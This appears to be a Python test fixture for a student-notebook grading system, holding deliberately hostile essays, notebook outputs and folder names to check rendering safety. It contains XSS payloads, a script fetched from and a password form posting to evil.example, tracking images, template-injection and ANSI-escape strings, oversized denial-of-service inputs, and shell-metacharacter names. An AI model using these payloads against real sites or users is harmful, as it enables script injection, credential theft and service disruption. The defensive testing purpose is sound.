"""What is meant to be looked at: answers and outputs that would run or load something in the reader's browser."""
# ruff: noqa: E501 - pieces of code as learners write them

from tests.grading.corpus.kind import DONE, Kind

ESSAYS = {
    "script": "Because <script>alert('corpus-ran')</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "handlers": "<img src=x onerror=alert('corpus-ran')> <b onclick='alert(1)'>b</b> <svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "links": (
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](javascript&colon;alert(1)) "
        "[e](javascript\\:alert(1)) [f](data:text/html,<script>alert(1)</script>) [g](vbscript:x) <javascript:alert(1)> [h][i]\n\n"
        "[i]: javascript\\:alert(1)"
    ),
    "tab-in-a-link": "[a](<java\tscript:alert(1)>) [b](java&Tab;script:alert(1)) [c](&#1;javascript:alert(1))",
    "pictures": "![x](https://evil.example/track.png) <img src='https://evil.example/t.gif'> ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "styles": "<style>body{display:none}</style><div style='position:fixed;inset:0;background:url(//evil.example)'>x</div><link rel=stylesheet href=//evil.example>",
    "forms": "<form action='https://evil.example'><input name=password><button>Log in</button></form><iframe src=//evil.example></iframe><base href=//evil.example>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><object data=x></object><embed src=x>",
    "comments": "<!-- --!><script>alert(1)</script> --> <!--[if IE]><script>alert(1)</script><![endif]-->",
    "mathematics": "$\\href{javascript:alert(1)}{x}$ and $$\\require{html}\\style{position:fixed}{\\class{x}{y}}$$",
    "ends-the-page": "</div></section></body></html><script>alert(1)</script>",
    "template": "{{ 7 * 7 }} {% raw %} {{ config }} ${7*7} <%= 7 %>",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "deep": "> " * 3000 + "deep",
    "deep-html": "<div>" * 30_000,
    "brackets": "[" * 20_000,
    "long": "long " * 200_000,
    "lists": "\n".join("  " * n + "- x" for n in range(400)),
}
SHOWN = {
    "html": "display(HTML('<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=//evil.example></iframe>'))",
    "javascript": "display(Javascript('alert(1)'))",
    "svg": 'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\'))',
    "markdown": "display(Markdown('[x](javascript:alert(1)) <script>alert(1)</script>'))",
    "latex": "display(Latex('$\\\\href{javascript:alert(1)}{x}$'))",
    "raw": "display({'text/html': ['<script>', 'alert(1)</script>'], 'image/png': '\"><script>alert(1)</script>', 'image/svg+xml': '<svg/>', "
    "'application/javascript': 'alert(1)', 'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, raw=True)",
    "text": "print('<script>alert(1)</script>\\x1b[31mred\\x1b[0m\\x1b]8;;http://evil.example\\x07'); raise ValueError('<img src=x onerror=alert(1)>')",
    "error-class": "raise type('<script>alert(1)</script>', (Exception,), {})('<script>')",
}
HEAD = "from IPython.display import display, HTML, Javascript, SVG, Markdown, Latex\n"

# Students' names, as folders may have them.
STUDENTS = (
    "o'neil",
    "a b",
    "ünïcode-名前",
    "100%s",
    "{student}",
    "<b>bold",
    'quote"d',
    "semi;colon",
    "-rf",
    "dollar$HOME",
    "star*[a]",
    "x" * 100,
)

KINDS = [
    *(Kind(f"page-{name}", {"essay": text}, state=DONE) for name, text in ESSAYS.items()),
    *(Kind(f"shown-{name}", {"proof": HEAD + code}, state=DONE) for name, code in SHOWN.items()),
    Kind(
        "words-of-an-error",
        {"square": "def square(x): raise ValueError('<script>alert(1)</script> \\x1b[2J ' + 'w' * 10_000)"},
        points={"test-square": 0},
    ),
    *(Kind(name, state=DONE) for name in STUDENTS),
]
